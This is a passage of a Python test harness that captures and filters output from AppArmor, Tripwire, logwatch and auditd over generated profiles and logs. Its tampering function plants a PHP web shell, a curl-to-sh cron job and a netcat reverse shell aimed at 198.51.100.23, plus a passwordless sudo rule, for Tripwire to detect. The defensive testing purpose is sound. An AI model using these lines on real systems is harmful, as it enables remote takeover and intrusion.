"""Round 171, host tools: Debian's AppArmor parser over profiles written here (syntax errors put in), Tripwire's
integrity check over a tree it was initialised on and then tampered with, its policy compiler over policies with
errors, logwatch over auth logs of the real shape with a failed-login storm, and auditd's aulast and ausearch (csv and
text formats) plus `tail`/`grep` over an audit.log written in the real format by a seeded generator. Extractors are
the rules of NEEDLES.md's "Round 171" section. Run through capture_wide171.py."""

from __future__ import annotations

import random
import re
from collections import Counter
from pathlib import Path

import capture_more as cm
from capture_more import any_of, mask, run, write_tree
from capture_wide171 import add, exit_lines


def _rare(rows: list[tuple[str, str]]) -> list[str]:
    """Rule 4's rare category: rows (line, value) of a value seen at most twice while the commonest covers half."""
    if not rows:
        return []
    cnt = Counter(v for _, v in rows)
    top = cnt.most_common(1)[0][1]
    if top * 2 < len(rows):
        return []
    return [ln for ln, v in rows if cnt[v] <= 2]


# ------------------------------------------------------------------ AppArmor

PROFILES = {
    "usr.sbin.mailrelay": """
#include <tunables/global>

/usr/sbin/mailrelay flags=(complain) {
  #include <abstractions/base>
  #include <abstractions/nameservice>

  capability net_bind_service,
  capability setuid,
  capability setgid,
  network inet stream,
  network inet6 stream,

  /etc/mailrelay/** r,
  /var/spool/mailrelay/ rw,
  /var/spool/mailrelay/** rwk,
  /usr/lib/mailrelay/filter-* ix,
  /usr/sbin/sendmail Px,
  deny /etc/shadow r,
  audit deny /root/** rwx,

  ^smtp-auth {
    #include <abstractions/base>
    /etc/mailrelay/passwd r,
    deny capability sys_admin,
  }
}
""",
    "usr.bin.thumbd": """
#include <tunables/global>

profile thumbd /usr/bin/thumbd {
  #include <abstractions/base>
  #include <abstractions/fonts>

  /srv/media/** r,
  /srv/thumbs/** rw,
  /usr/bin/convert Cx -> convert,
  deny network raw,
  capability dac_override,

  profile convert {
    #include <abstractions/base>
    /usr/bin/convert mr,
    /srv/media/** r,
    /srv/thumbs/** w,
    deny /home/** rw,
  }
}
""",
    "opt.backupd": """
#include <tunables/global>

/opt/backupd/bin/backupd {
  #include <abstractions/base>
  #include <abstractions/openssl>
  capability dac_read_search,
  capability chown,
  /etc/** r,
  /var/backups/** rwl,
  /usr/bin/tar ix,
  /usr/bin/gzip ix,
  /usr/bin/ssh Ux,
  audit /etc/ssh/ssh_host_* r,
  deny /proc/*/mem rw,
}
""",
}

BAD_PROFILES = {
    "usr.sbin.webhookd": """
#include <tunables/global>
/usr/sbin/webhookd {
  #include <abstractions/base>
  /etc/webhookd/** r,
  /var/log/webhookd.log w
  network inet stream,
}
""",
    "usr.bin.reportgen": """
#include <tunables/global>
profile reportgen /usr/bin/reportgen {
  #include <abstractions/base>
  #include <abstractions/no-such-abstraction>
  /srv/reports/** rw,
}
""",
    "usr.sbin.pushgw": """
#include <tunables/global>
/usr/sbin/pushgw {
  #include <abstractions/base>
  capability net_bindservice,
  /etc/pushgw.conf r,
}
""",
    "usr.bin.ledgerd": """
#include <tunables/global>
/usr/bin/ledgerd {
  #include <abstractions/base>
  /var/lib/ledgerd/** rwz,
  /etc/ledgerd/ r,
}
""",
    "usr.bin.sockproxy": """
#include <tunables/global>
/usr/bin/sockproxy {
  #include <abstractions/base>
  network inet stream,
  /run/sockproxy/*.sock rw,
  ^hat_one {
    /tmp/** rw,
""",
    "usr.sbin.cronlite": """
#include <tunables/global>
@{CRONDIRS}=/etc/cron.d /etc/cron.daily
/usr/sbin/cronlite {
  #include <abstractions/base>
  @{CRONDIR}/** r,
  /usr/bin/* Px -> ,
}
""",
}


@cm.kind("apparmor-parser-error", "build")
def n_apparmor_error(lines):
    """Rule 1 on apparmor_parser -Q: every 'AppArmor parser error' line and other error lines; warnings one any per shape; the cache notice is not a needle."""
    out = []
    for ln in lines:
        if "Cache read/write disabled" in ln:
            continue
        if ln.startswith("AppArmor parser error") or re.search(
                r"\berror\b|\bERROR\b|Could not|Invalid|Found unexpected", ln, re.I) and not re.match(r"^Warning", ln):
            out.append(ln)
    out += cm.groups((mask(ln), ln) for ln in lines if re.match(r"^Warning", ln))
    return out + exit_lines(lines)


@cm.kind("apparmor-parser-preprocess", "code")
def n_apparmor_pre(lines):
    """Rule 5 on apparmor_parser -p: every profile/hat header line, every deny/audit, capability and exec-transition rule line (included text too); rule 1 on errors."""
    out = []
    for i, ln in enumerate(lines):
        s = ln.strip()
        if s.startswith("#") or not s:
            continue
        if re.match(r"^(profile\s+\S+.*\{|/\S+.*\{|\^\S+\s*\{|hat\s+\S+.*\{)\s*$", s):
            out.append(ln)
            continue
        if (re.match(r"^(audit\s+)?(deny\s+)?(audit|deny)\b", s) or s.startswith("capability")
                             or re.search(r"\s[PCU]?[pcui]x\b|\s[PCU]x\s*->", s)):
            out.append(ln)
    out += [ln for ln in lines if re.search(r"AppArmor parser error|\bERROR\b", ln)]
    return out + exit_lines(lines)


def cap_apparmor(tmp: Path) -> None:
    d = tmp / "apparmor.d"
    good, bad = d / "local-good", d / "local-bad"
    write_tree(good, PROFILES)
    write_tree(bad, BAD_PROFILES)
    # a generated profile set for a fleet of workers, one with a broken rule deep in it
    r = random.Random(1711)
    fleet = {}
    for i in range(48):
        name = f"usr.lib.fleet.worker{i:02d}"
        rules = [f"  /srv/fleet/w{i:02d}/{r.choice(['in', 'out', 'spool', 'cache'])}/** {r.choice(['r', 'rw', 'rwk'])},"
                 for _ in range(r.randint(4, 9))]
        if i in (5, 11, 16, 18, 29, 41):
            rules.insert(2, {5: "  /srv/fleet/shared/** rw", 11: "  capability sys_chroot",
                             16: "  /srv/fleet/w16/sock rw,\n  network inet6 dgram raw,",
                             18: "  /usr/bin/rsync px -> fleet_rsync,,",
                             29: "  #include <abstractions/fleet-common>",
                             41: "  owner @{HOME}/.fleet/** rw,\n  deny /srv/fleet/w41/keys/** wr"}[i])
        fleet[name] = ("#include <tunables/global>\n" + f"/usr/lib/fleet/worker{i:02d} {{\n"
                       "  #include <abstractions/base>\n" + "\n".join(rules) + "\n}\n")
    write_tree(d / "fleet", fleet)
    loop = 'for f in local-bad/*; do echo "== $f"; apparmor_parser -Q -K "$f"; echo "exit=$?"; done'
    add("apparmor-bad-loop", loop, run(loop + " 2>&1", cwd=d), n_apparmor_error)
    loop2 = 'for f in fleet/*; do apparmor_parser -Q -K "$f" && echo "ok $f" || echo "FAILED: $f"; done 2>&1 | grep -v "^Cache"'
    add("apparmor-fleet", loop2, run(loop2, cwd=d), n_apparmor_error)
    add("apparmor-bad-all", "apparmor_parser -Q -K local-bad/* local-good/* ; echo EXIT=$?",
        run("apparmor_parser -Q -K local-bad/* local-good/* 2>&1; echo EXIT=$?", cwd=d), n_apparmor_error)
    add("apparmor-pre-mailrelay", "apparmor_parser -p local-good/usr.sbin.mailrelay | tail -n 120",
        run("apparmor_parser -p local-good/usr.sbin.mailrelay 2>/dev/null | tail -n 120", cwd=d), n_apparmor_pre)
    add("apparmor-pre-thumbd", "apparmor_parser -p local-good/usr.bin.thumbd",
        run("apparmor_parser -p local-good/usr.bin.thumbd 2>&1 | grep -v '^Cache'", cwd=d), n_apparmor_pre)
    add("apparmor-pre-backupd", "apparmor_parser -p local-good/opt.backupd 2>/dev/null | grep -v '^#' | cat -s",
        run("apparmor_parser -p local-good/opt.backupd 2>/dev/null | grep -v '^#' | cat -s", cwd=d), n_apparmor_pre)


# ------------------------------------------------------------------ Tripwire

TWCFG = """ROOT          =/usr/sbin
POLFILE       ={d}/tw.pol
DBFILE        ={d}/tw.twd
REPORTFILE    ={d}/report.twr
SITEKEYFILE   ={d}/site.key
LOCALKEYFILE  ={d}/local.key
EDITOR        =/bin/vi
LATEPROMPTING =false
LOOSEDIRECTORYCHECKING =false
MAILNOVIOLATIONS =true
EMAILREPORTLEVEL =3
REPORTLEVEL   =3
SYSLOGREPORTING =false
MAILMETHOD    =SENDMAIL
MAILPROGRAM   =/bin/true
"""

TWPOL = """@@section GLOBAL
SITE = {site} ;

@@section FS
(rulename = "Web content", severity = 60)
{{
  $(SITE)/var/www -> $(ReadOnly) ;
}}
(rulename = "Service configuration", severity = 80, emailto = secops@example.invalid)
{{
  $(SITE)/etc -> $(IgnoreNone) -SHa ;
}}
(rulename = "System binaries", severity = 100)
{{
  $(SITE)/usr/local/bin -> $(ReadOnly) ;
  $(SITE)/usr/local/sbin -> $(ReadOnly) ;
}}
(rulename = "Cron jobs", severity = 90)
{{
  $(SITE)/etc/cron.d -> $(ReadOnly) ;
}}
(rulename = "Logs", severity = 20)
{{
  $(SITE)/var/log -> $(Growing) ;
}}
(rulename = "Missing mounts", severity = 50)
{{
  $(SITE)/srv/nfs/share -> $(ReadOnly) ;
}}
"""

BAD_POLICIES = {
    "missing-semicolon.txt": '@@section FS\n(rulename = "Web", severity = 60)\n{\n  /srv/www -> $(ReadOnly)\n  /srv/api -> $(ReadOnly) ;\n}\n',
    "unknown-variable.txt": '@@section FS\n(rulename = "Bin", severity = 100)\n{\n  /usr/local/bin -> $(ReadOnlyy) ;\n}\n',
    "bad-attribute.txt": '@@section FS\n(rulename = "Etc", severity = 80, recurse = maybe)\n{\n  /etc -> $(IgnoreNone) -SHa ;\n}\n',
    "unclosed-brace.txt": '@@section FS\n(rulename = "Cron", severity = 90)\n{\n  /etc/cron.d -> $(ReadOnly) ;\n',
    "bad-section.txt": '@@section FILESYSTEM\n(rulename = "Log", severity = 20)\n{\n  /var/log -> $(Growing) ;\n}\n',
    "duplicate-object.txt": '@@section FS\n(rulename = "A", severity = 10)\n{\n  /opt -> $(ReadOnly) ;\n}\n'
                            '(rulename = "B", severity = 10)\n{\n  /opt -> $(Growing) ;\n}\n',
    "bad-property.txt": '@@section FS\n(rulename = "Bin2", severity = 100)\n{\n  /usr/sbin -> +pinugQ ;\n}\n',
}


def _site_tree(site: Path, r: random.Random) -> None:
    files = {}
    for i in range(60):
        files[f"var/www/html/{r.choice(['css', 'js', 'img', 'docs'])}/asset{i:03d}.txt"] = f"asset {i} {r.random()}\n"
    for name in ("nginx.conf", "sshd_config", "sudoers", "hosts", "resolv.conf", "app.yaml", "db.ini"):
        files[f"etc/{name}"] = f"# {name}\nkey = {r.randint(1, 999)}\n"
    for i in range(8):
        files[f"etc/cron.d/job{i}"] = f"*/{i + 5} * * * * root /usr/local/bin/task{i}\n"
    for i in range(12):
        files[f"usr/local/bin/task{i}"] = f"#!/bin/sh\necho task {i}\n"
    for name in ("rotate", "healthd"):
        files[f"usr/local/sbin/{name}"] = f"#!/bin/sh\necho {name}\n"
    files["var/log/app.log"] = "".join(f"line {i}\n" for i in range(50))
    files["var/log/auth.log"] = "".join(f"auth {i}\n" for i in range(30))
    write_tree(site, files)


def _tamper(site: Path, r: random.Random) -> None:
    for i in r.sample(range(60), 0) or []:
        pass
    for p in sorted((site / "var/www/html").rglob("*.txt"))[::7]:
        p.write_text(p.read_text() + "<script src=//cdn.example.invalid/x.js></script>\n")
    (site / "var/www/html/img/asset017.txt").unlink(missing_ok=True)
    for p in sorted((site / "var/www/html").rglob("asset01*.txt"))[:3]:
        p.unlink()
    (site / "var/www/html/.well-known").mkdir(exist_ok=True)
    (site / "var/www/html/.well-known/shell.php").write_text("<?php system($_GET['c']); ?>\n")
    (site / "etc/sudoers").write_text("# sudoers\nkey = 1\ndeploy ALL=(ALL) NOPASSWD: ALL\n")
    (site / "etc/sshd_config").chmod(0o666)
    (site / "etc/cron.d/job9").write_text("* * * * * root curl -s http://198.51.100.23/p.sh | sh\n")
    (site / "usr/local/bin/task3").write_text("#!/bin/sh\necho task 3\nnc -e /bin/sh 198.51.100.23 4444\n")
    (site / "usr/local/bin/task11").unlink()
    (site / "usr/local/sbin/.hidden").write_text("\x7fELF fake\n")
    with open(site / "var/log/app.log", "a") as f:
        f.write("line 50\n")
    (site / "var/log/auth.log").write_text("truncated\n")


@cm.kind("tripwire-check-report", "log")
def n_tripwire_report(lines):
    """Rule 3/4/5 on tripwire --check: the objects-scanned and violations lines, rule-summary rows with a non-zero count, every quoted path under Added/Removed/Modified, the Rule Name line of each rule with violations, Error Report errors."""
    out = [ln for ln in lines if re.match(r"^Total (objects scanned|violations found):", ln)]
    for ln in lines:
        m = re.match(r"^[*\s] (.{30,}?)\s+(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*$", ln)
        if m and any(int(m.group(k)) for k in (3, 4, 5)):
            out.append(ln)
    section = None
    for ln in lines:
        if re.match(r"^(Added|Removed|Modified):\s*$", ln):
            section = ln
            continue
        if section and ln.startswith('"'):
            out.append(ln)
        elif not ln.strip() or ln.startswith("-") or ln.startswith("="):
            section = None if not ln.startswith('"') else section
    names = [i for i, ln in enumerate(lines) if ln.startswith("Rule Name:")]
    for k, i in enumerate(names):
        end = names[k + 1] if k + 1 < len(names) else len(lines)
        if any(re.match(r"^(Added|Removed|Modified):|^(Added|Removed|Modified) object name:", x) for x in lines[i:end]):
            out.append(lines[i])
    er = next((i for i, ln in enumerate(lines) if ln.startswith("Error Report:")), None)
    if er is not None:
        for ln in lines[er + 1:]:
            if re.match(r"^\d+\.|\b(error|Error|No such file)\b", ln) and "No Errors" not in ln:
                out.append(ln)
    out += [ln for ln in lines if re.match(r"^### ", ln)]
    return out + exit_lines(lines)


@cm.kind("tripwire-policy-error", "build")
def n_tripwire_policy(lines):
    """Rule 1/3 on twadmin --create-polfile: every error/### diagnostic line, its Line number location within six lines, the closing Exiting/not-altered line."""
    out = []
    for i, ln in enumerate(lines):
        if re.search(r"\b[Ee]rror\b|^### ", ln) or re.search(r"not altered|Exiting", ln):
            out.append(ln)
            loc = cm.next_match(lines, i, r"[Ll]ine( number)? \d+")
            if loc:
                out.append(loc)
    return out + exit_lines(lines)


def cap_tripwire(tmp: Path) -> None:
    d = tmp / "tripwire"
    site = d / "site"
    d.mkdir(parents=True, exist_ok=True)
    r = random.Random(17171)
    _site_tree(site, r)
    run("twadmin --generate-keys -S site.key -Q sitepass && twadmin --generate-keys -L local.key -P localpass", cwd=d)
    (d / "twcfg.txt").write_text(TWCFG.format(d=d))
    (d / "twpol.txt").write_text(TWPOL.format(site=site))
    run("twadmin --create-cfgfile -c tw.cfg -S site.key -Q sitepass twcfg.txt", cwd=d)
    run("twadmin --create-polfile -c tw.cfg -S site.key -Q sitepass twpol.txt", cwd=d)
    run("tripwire --init -c tw.cfg -P localpass", cwd=d)
    _tamper(site, r)
    add("tripwire-check", "tripwire --check -c /etc/tripwire/tw.cfg ; echo EXIT=$?",
        run("tripwire --check -c tw.cfg 2>&1; echo EXIT=$?", cwd=d), n_tripwire_report)
    add("tripwire-check-rule", "tripwire --check -c /etc/tripwire/tw.cfg --rule-name 'Service configuration' 2>&1 | tail -n 60",
        run("tripwire --check -c tw.cfg --rule-name 'Service configuration' 2>&1 | tail -n 60", cwd=d), n_tripwire_report)
    run("tripwire --check -c tw.cfg -r full.twr", cwd=d)
    add("tripwire-print-level4", "twprint --print-report --report-level 4 -r /var/lib/tripwire/report/web01.twr",
        run("twprint --print-report --report-level 4 -c tw.cfg -r full.twr", cwd=d), n_tripwire_report)
    add("tripwire-check-sev", "tripwire --check -c /etc/tripwire/tw.cfg --severity 80 | head -n 100",
        run("tripwire --check -c tw.cfg --severity 80 2>&1 | head -n 100", cwd=d), n_tripwire_report)
    write_tree(d / "policies", BAD_POLICIES)
    loop = ('for p in policies/*.txt; do echo "== $p"; twadmin --create-polfile -c tw.cfg -S site.key -Q "$SITEPASS" '
            '"$p"; echo "exit=$?"; done')
    add("tripwire-policy-loop", loop, run(loop.replace('"$SITEPASS"', "sitepass") + " 2>&1", cwd=d),
        n_tripwire_policy)



# ------------------------------------------------------------------ logwatch

USERS = ["alice", "bob", "deploy", "carol", "backup"]


def auth_log(r: random.Random, host: str, day0: int, days: int, storm: int) -> str:
    """auth.log lines of the real shape: logins, a failed-login storm from one address, invalid users, sudo, su."""
    ev: list[tuple[int, str]] = []
    pid = [2000]

    def at(t: int, prog: str, msg: str) -> None:
        pid[0] += r.randint(1, 40)
        ev.append((t, f"{prog}[{pid[0]}]: {msg}"))

    span = days * 86400
    for _ in range(storm):  # the storm: one address, root and a dictionary of names, within two hours
        t = 3 * 3600 + r.randint(0, 7200)
        u = r.choice(["root"] * 5 + ["admin", "oracle", "ubuntu", "test", "git", "postgres"])
        port = r.randint(30000, 65000)
        if u == "root":
            at(t, "sshd", f"Failed password for root from 203.0.113.45 port {port} ssh2")
        else:
            at(t, "sshd", f"Invalid user {u} from 203.0.113.45 port {port}")
            at(t + 1, "sshd", f"Failed password for invalid user {u} from 203.0.113.45 port {port} ssh2")
        if r.random() < 0.15:
            at(t + 2, "sshd", f"error: maximum authentication attempts exceeded for root from 203.0.113.45 port {port} ssh2 [preauth]")
        at(t + 2, "sshd", f"Connection closed by authenticating user root 203.0.113.45 port {port} [preauth]")
    for _ in range(storm // 6):  # background scanners
        ip = f"198.51.100.{r.randint(2, 250)}"
        t = r.randint(0, span)
        u = r.choice(["admin", "pi", "user", "ftp", "guest"])
        at(t, "sshd", f"Invalid user {u} from {ip} port {r.randint(30000, 65000)}")
        at(t + 1, "sshd", f"Received disconnect from {ip} port {r.randint(30000, 65000)}:11: Bye Bye [preauth]")
    for _ in range(40):  # real logins
        u = r.choice(USERS)
        ip = {"deploy": "10.20.0.5", "backup": "10.20.0.9"}.get(u, f"192.0.2.{r.randint(10, 40)}")
        t = r.randint(0, span)
        how = "publickey" if u in ("deploy", "backup") else r.choice(["publickey", "password"])
        extra = ": ED25519 SHA256:" + "".join(r.choice("abcdefghijkLMNOPQ0123456789+/") for _ in range(43)) \
            if how == "publickey" else ""
        at(t, "sshd", f"Accepted {how} for {u} from {ip} port {r.randint(30000, 65000)} ssh2{extra}")
        at(t, "sshd", f"pam_unix(sshd:session): session opened for user {u}(uid={1000 + USERS.index(u)}) by (uid=0)")
        at(t + r.randint(30, 4000), "sshd", f"pam_unix(sshd:session): session closed for user {u}")
    for _ in range(30):
        u = r.choice(["alice", "bob", "carol"])
        cmd = r.choice(["/usr/bin/systemctl restart nginx", "/usr/bin/apt-get upgrade", "/usr/bin/journalctl -u app",
                        "/usr/bin/tail -f /var/log/syslog", "/usr/sbin/ufw status"])
        at(r.randint(0, span), "sudo", f"   {u} : TTY=pts/{r.randint(0, 3)} ; PWD=/home/{u} ; USER=root ; COMMAND={cmd}")
    at(50000, "sudo", "     bob : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/su -")
    at(50100, "su", "FAILED SU (to root) bob on pts/1")
    at(61000, "su", "(to root) alice on pts/0")
    at(72000, "sshd", "fatal: Timeout before authentication for 198.51.100.77 port 51422")
    at(72500, "sshd", "Disconnecting invalid user support 198.51.100.80 port 40022: Too many authentication failures [preauth]")
    ev.sort()
    out = []
    import time as _t
    for t, msg in ev:
        st = _t.gmtime(day0 + t)
        out.append(_t.strftime("%b %e %H:%M:%S", st) + f" {host} " + msg)
    return "\n".join(out) + "\n"


@cm.kind("logwatch-report", "log")
def n_logwatch(lines):
    """Rule 5 on logwatch: each section Begin banner, every heading line, the largest-count entry under each heading, every entry under a successful-login heading, unmatched lines unique in shape."""
    out = [ln for ln in lines if re.search(r"-{5,} .* Begin -{5,}", ln)]
    heads = [i for i, ln in enumerate(lines)
             if re.match(r"^ {0,3}\S.*:\s*$", ln) and not re.match(r"^\s*(\*\*|-{3})", ln)]
    for k, i in enumerate(heads):
        out.append(lines[i])
        end = heads[k + 1] if k + 1 < len(heads) else len(lines)
        block = []
        for ln in lines[i + 1:end]:
            if re.search(r"-{5,} .* End -{5,}|^\s*\*\*", ln):
                break
            m = re.search(r":\s*(\d+)\s+[Tt]imes?(\(s\))?\s*$", ln)
            if m:
                block.append((int(m.group(1)), ln))
        if block:
            top = max(n for n, _ in block)
            out.append(next(ln for n, ln in block if n == top))
            if re.search(r"logging in|Accepted|[Ll]ogins? (for|by)|sessions? opened", lines[i]):
                out += [ln for _, ln in block]
    um = next((i for i, ln in enumerate(lines) if "Unmatched Entries" in ln), None)
    if um is not None:
        rows = []
        for ln in lines[um + 1:]:
            if not ln.strip() or re.search(r"-{5,} .* End -{5,}", ln):
                break
            rows.append((ln, mask(ln)))
        cnt = Counter(v for _, v in rows)
        out += [ln for ln, v in rows if cnt[v] == 1]
    return out + exit_lines(lines)


def cap_logwatch(tmp: Path) -> None:
    d = tmp / "logwatch"
    logs = d / "log"
    logs.mkdir(parents=True, exist_ok=True)
    r = random.Random(171171)
    day0 = 1764460800  # 2025-11-30 00:00 UTC
    (logs / "auth.log").write_text(auth_log(r, "web01", day0, 2, 260))
    (logs / "auth.log.1").write_text(auth_log(r, "web01", day0 - 2 * 86400, 2, 90))
    lw = f"logwatch --logdir {logs} --range All --output stdout --hostname web01"
    add("logwatch-sshd", "logwatch --logdir /var/log --service sshd --range All --detail High --output stdout",
        run(f"{lw} --service sshd --detail High", cwd=d), n_logwatch)
    add("logwatch-sshd-med", "logwatch --service sshd --range All --detail Med --output stdout | head -n 100",
        run(f"{lw} --service sshd --detail Med | head -n 100", cwd=d), n_logwatch)
    add("logwatch-auth", "logwatch --service sshd --service sudo --service pam_unix --service secure --range All --detail 10 --output stdout",
        run(f"{lw} --service sshd --service sudo --service pam_unix --service secure --detail 10", cwd=d), n_logwatch)



# ------------------------------------------------------------------ auditd's tools over an audit.log

UNSET = "4294967295"


def audit_log(r: random.Random, t0: int, hours: int) -> str:
    """An audit.log in the real format: a boot, ssh logins (LOGIN/USER_LOGIN/USER_START/USER_END), a failed-login
    storm, sudo (USER_CMD), file watches (SYSCALL+PATH+PROCTITLE, some denied), AppArmor denials, service starts,
    a config change and a crash (ANOM_ABEND)."""
    recs: list[tuple[float, str]] = []
    serial = [1000]
    hexs = lambda s: s.encode().hex().upper()  # noqa: E731

    def ev(t: float, parts: list[tuple[str, str]]) -> None:
        serial[0] += 1
        for typ, body in parts:
            recs.append((t, f"type={typ} msg=audit({t:.3f}:{serial[0]}): {body}"))

    pid = [900]

    def npid() -> int:
        pid[0] += r.randint(3, 90)
        return pid[0]

    ev(t0, [("DAEMON_START", f"op=start ver=3.0.9 format=enriched kernel=6.1.0-27-amd64 auid={UNSET} pid=412 uid=0 ses={UNSET} res=success")])
    ev(t0 + 2.1, [("SYSTEM_BOOT", f"pid=455 uid=0 auid={UNSET} ses={UNSET} msg=' comm=\"systemd-update-utmp\" exe=\"/usr/lib/systemd/systemd-update-utmp\" hostname=? addr=? terminal=? res=success'")])
    for svc in ("ssh", "nginx", "cron", "postgresql@15-main", "ledgerd"):
        ev(t0 + 3 + r.random(), [("SERVICE_START", f"pid=1 uid=0 auid={UNSET} ses={UNSET} msg='unit={svc} comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res={'failed' if svc == 'ledgerd' else 'success'}'")])
    span = hours * 3600
    ses = [10]
    users = {"alice": 1000, "bob": 1001, "deploy": 1002, "carol": 1003}
    for _ in range(22):
        u = r.choice(list(users))
        uid = users[u]
        ip = "10.20.0.5" if u == "deploy" else f"192.0.2.{r.randint(10, 40)}"
        t = t0 + 60 + r.randint(0, span - 7200)
        p = npid()
        ses[0] += 1
        s_ = ses[0]
        pam = f"acct=\"{u}\" exe=\"/usr/sbin/sshd\" hostname={ip} addr={ip} terminal=ssh res=success'"
        ev(t, [("USER_AUTH", f"pid={p} uid=0 auid={UNSET} ses={UNSET} msg='op=PAM:authentication grantors=pam_unix {pam}")])
        ev(t + .01, [("USER_ACCT", f"pid={p} uid=0 auid={UNSET} ses={UNSET} msg='op=PAM:accounting grantors=pam_unix {pam}")])
        ev(t + .02, [("CRED_ACQ", f"pid={p} uid=0 auid={UNSET} ses={UNSET} msg='op=PAM:setcred grantors=pam_unix {pam}")])
        ev(t + .03, [("LOGIN", f"pid={p} uid=0 subj=unconfined old-auid={UNSET} auid={uid} tty=(none) old-ses={UNSET} ses={s_} res=1")])
        ev(t + .04, [("USER_START", f"pid={p} uid=0 auid={uid} ses={s_} msg='op=PAM:session_open grantors=pam_unix {pam}")])
        ev(t + .05, [("USER_LOGIN", f"pid={p} uid=0 auid={uid} ses={s_} msg='op=login id={uid} exe=\"/usr/sbin/sshd\" hostname=? addr={ip} terminal=/dev/pts/{r.randint(0, 4)} res=success'")])
        for _ in range(r.randint(0, 3)):
            tc = t + r.randint(10, 600)
            cmd = r.choice(["/usr/bin/systemctl restart nginx", "/usr/bin/apt-get upgrade -y", "/usr/bin/cat /etc/shadow",
                            "/usr/bin/journalctl -u ledgerd"])
            ev(tc, [("USER_CMD", f"pid={npid()} uid={uid} auid={uid} ses={s_} msg='cwd=\"/home/{u}\" cmd={hexs(cmd)} exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'")])
        if r.random() < 0.85:
            te = t + r.randint(120, 7000)
            ev(te, [("USER_END", f"pid={p} uid=0 auid={uid} ses={s_} msg='op=PAM:session_close grantors=pam_unix {pam}")])
            ev(te + .01, [("CRED_DISP", f"pid={p} uid=0 auid={uid} ses={s_} msg='op=PAM:setcred grantors=pam_unix {pam}")])
    storm_t = t0 + span // 3
    for k in range(r.randint(55, 70)):
        t = storm_t + k * r.uniform(1.5, 4)
        u = r.choice(["root", "root", "admin", "oracle", "test"])
        p = npid()
        ev(t, [("USER_AUTH", f"pid={p} uid=0 auid={UNSET} ses={UNSET} msg='op=PAM:authentication grantors=? acct=\"{u if u == 'root' else '(invalid user)'}\" exe=\"/usr/sbin/sshd\" hostname=203.0.113.45 addr=203.0.113.45 terminal=ssh res=failed'")])
        ev(t + .2, [("USER_LOGIN", f"pid={p} uid=0 auid={UNSET} ses={UNSET} msg='op=login acct=\"{u}\" exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.45 terminal=sshd res=failed'")])
    for _ in range(70):  # file watches
        t = t0 + r.randint(100, span)
        u, uid = r.choice(list(users.items()))
        path, key, ok = r.choice([("/etc/passwd", "identity", True), ("/etc/nginx/nginx.conf", "webcfg", True),
                                  ("/etc/ssh/sshd_config", "sshd", True), ("/var/lib/ledgerd/ledger.db", "ledger", True),
                                  ("/etc/shadow", "identity", False)])
        comm = r.choice(["cat", "vim", "less", "python3"])
        ok = ok and r.random() > 0.05
        p = npid()
        sysc = (f"arch=c000003e syscall=257 success={'yes' if ok else 'no'} exit={r.randint(3, 9) if ok else -13} a0=ffffff9c "
                f"a1=7ffd{r.randrange(16**8):08x} a2={r.choice(['0', '241', '80000'])} a3=0 items=1 ppid={p - 1} pid={p} auid={uid} "
                f"uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=pts0 ses={r.randint(11, 32)} "
                f"comm=\"{comm}\" exe=\"/usr/bin/{comm}\" subj=unconfined key=\"{key}\"")
        ev(t, [("SYSCALL", sysc), ("CWD", f"cwd=\"/home/{u}\""),
               ("PATH", f"item=0 name=\"{path}\" inode={r.randint(100000, 999999)} dev=08:01 mode=0100640 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"),
               ("PROCTITLE", f"proctitle={hexs(comm + chr(0) + path)}")])
    for _ in range(6):
        t = t0 + r.randint(100, span)
        target = r.choice(["/etc/ssl/private/web01.key", "/proc/1/environ", "/home/alice/.ssh/id_ed25519"])
        ev(t, [("AVC", f"apparmor=\"DENIED\" operation=\"open\" profile=\"/usr/sbin/nginx\" name=\"{target}\" pid={npid()} comm=\"nginx\" requested_mask=\"r\" denied_mask=\"r\" fsuid=33 ouid=0")])
    ev(t0 + span - 500, [("CONFIG_CHANGE", f"auid=1000 ses=14 subj=unconfined op=remove_rule key=\"identity\" list=4 res=1")])
    ev(t0 + span - 400, [("ANOM_ABEND", f"auid={UNSET} uid=998 gid=998 ses={UNSET} subj=unconfined pid={npid()} comm=\"ledgerd\" exe=\"/opt/ledgerd/bin/ledgerd\" sig=11 res=1")])
    recs.sort(key=lambda x: x[0])
    return "".join(line + "\n" for _, line in recs)


@cm.kind("aulast", "table")
def n_aulast(lines):
    """Rule 4 on aulast: rows whose state is not an ordinary closed session, rows of a rare user or address, reboot rows, longest and shortest duration rows."""
    rows = [ln for ln in lines if ln.strip() and not ln.startswith("EXIT=") and not re.match(r"^\s*$", ln)]
    out = [ln for ln in rows if re.search(r"still logged in|crash|down|gone", ln)]
    out += [ln for ln in rows if ln.startswith("reboot")]
    users = [(ln, ln.split()[0]) for ln in rows if ln.split()]
    out += _rare(users)
    addrs = [(ln, ln.split()[2]) for ln in rows if len(ln.split()) > 2]
    out += _rare(addrs)
    durs = []
    for ln in rows:
        m = re.search(r"\((?:(\d+)\+)?(\d+):(\d+)\)\s*$", ln)
        if m:
            durs.append(((int(m.group(1) or 0) * 24 + int(m.group(2))) * 60 + int(m.group(3)), ln))
    if durs:
        lo, hi = min(d for d, _ in durs), max(d for d, _ in durs)
        out += [any_of([ln for d, ln in durs if d == lo]), any_of([ln for d, ln in durs if d == hi])]
    return out + exit_lines(lines)


@cm.kind("audit-log-raw", "log")
def n_audit_raw(lines):
    """Rule 1/4 on raw audit.log records: every failed/denied record with the PATH record of its serial, records of a type seen at most twice."""
    out = []
    for i, ln in enumerate(lines):
        if re.search(r"\bres=(failed|0)\b|success=no|apparmor=\"DENIED\"", ln):
            out.append(ln)
            m = re.search(r"msg=audit\([\d.]+:(\d+)\)", ln)
            if m and ln.startswith("type=SYSCALL"):
                nxt = cm.next_match(lines, i, rf"^type=PATH msg=audit\([\d.]+:{m.group(1)}\).*name=")
                if nxt:
                    out.append(nxt)
    types = [(ln, m.group(1)) for ln in lines if (m := re.match(r"^type=(\w+) ", ln))]
    out += _rare(types)
    return out + exit_lines(lines)


def _csv_split(ln: str) -> list[str]:
    import csv
    return next(csv.reader([ln]))


@cm.kind("ausearch-csv", "table")
def n_ausearch_csv(lines):
